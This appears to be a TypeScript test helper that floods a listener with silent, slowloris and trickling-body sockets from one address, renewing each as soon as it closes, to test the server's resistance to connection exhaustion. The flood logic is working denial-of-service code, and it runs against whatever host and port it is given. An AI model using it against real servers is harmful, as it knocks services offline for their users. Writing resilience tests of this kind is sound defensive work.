// An attacker's sockets against a listener, from one address, each renewed as soon as the host closes it: silent ones
// (connect, send nothing), slowloris ones (one header byte a second) and refused requests that trickle a body they
// declared a gigabyte of. Run in a process of its own (socket-flood-cli.ts) so its churn is not the test's.
import { connect, type Socket } from "node:net";

export interface FloodOptions {
  host: string;
  port: number;
  /** The one address the flood comes from. */
  localAddress: string;
  silent: number;
  slowloris: number;
  tricklingBodies: number;
}

export interface Flood {
  /** Sockets the host has closed (each was renewed). */
  closed(): number;
  stop(): void;
}

type Kind = "silent" | "slowloris" | "trickle";

const SLOW_HEADERS = "GET /acp HTTP/1.1\r\nHost: x\r\nX-Slow: " + "a".repeat(4096);
const TRICKLED_HEADERS =
  "POST /acp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\nContent-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n{";

export function flood(options: FloodOptions): Flood {
  let running = true;
  let closed = 0;
  const timers = new Set<NodeJS.Timeout>();
  const open = (kind: Kind): void => {
    if (!running) return;
    const socket: Socket = connect({ host: options.host, port: options.port, localAddress: options.localAddress });
    socket.on("error", () => {});
    socket.on("data", () => {});
    let timer: NodeJS.Timeout | null = null;
    socket.once("connect", () => {
      if (kind === "silent") return;
      let sent = 0;
      if (kind === "trickle") socket.write(TRICKLED_HEADERS);
      timer = setInterval(
        () => socket.write(kind === "slowloris" ? SLOW_HEADERS[sent++ % SLOW_HEADERS.length]! : " "),
        kind === "slowloris" ? 1000 : 100,
      );
      timers.add(timer);
    });
    socket.once("close", () => {
      if (timer) (clearInterval(timer), timers.delete(timer));
      closed++;
      // Renewed at once, as an attacker would; one event-loop turn apart so the renewals do not starve the rest.
      setImmediate(() => open(kind));
    });
  };
  for (let i = 0; i < options.silent; i++) open("silent");
  for (let i = 0; i < options.slowloris; i++) open("slowloris");
  for (let i = 0; i < options.tricklingBodies; i++) open("trickle");
  return {
    closed: () => closed,
    stop: () => {
      running = false;
      for (const timer of timers) clearInterval(timer);
    },
  };
}
